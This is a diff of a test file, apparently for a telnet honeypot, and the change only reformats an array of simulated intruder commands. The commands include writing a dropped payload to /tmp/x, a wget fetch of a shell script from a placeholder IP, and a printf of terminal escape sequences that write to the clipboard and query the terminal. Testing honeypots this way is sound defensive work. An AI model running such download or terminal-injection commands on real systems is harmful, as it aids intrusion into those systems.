@@ -24,7 +24,12 @@ interface Answers {
 before(async () => {
   const up = await new UpCommand(site).ready();
   await visitByTelnet(up.port("telnet"), ["uname -s", "printf 'a\\033]52;c;QUFB\\007b\\033P+q544e\\033\\\\c\\033[21td\\033[?1049he\\n'"]);
-  await visitByTelnet(up.port("telnet"), [`echo -n '${DROPPED}' > /tmp/x`, "cat /tmp/x", "wget -t1 -T1 http://198.51.100.7/x.sh", "nosuchthing"]);
+  await visitByTelnet(up.port("telnet"), [
+    `echo -n '${DROPPED}' > /tmp/x`,
+    "cat /tmp/x",
+    "wget -t1 -T1 http://198.51.100.7/x.sh",
+    "nosuchthing",
+  ]);
   await up.until(() => up.out.split("terminal.recorded").length > 2, "both recordings");
   beside = await answers();
   await up.end("SIGTERM");
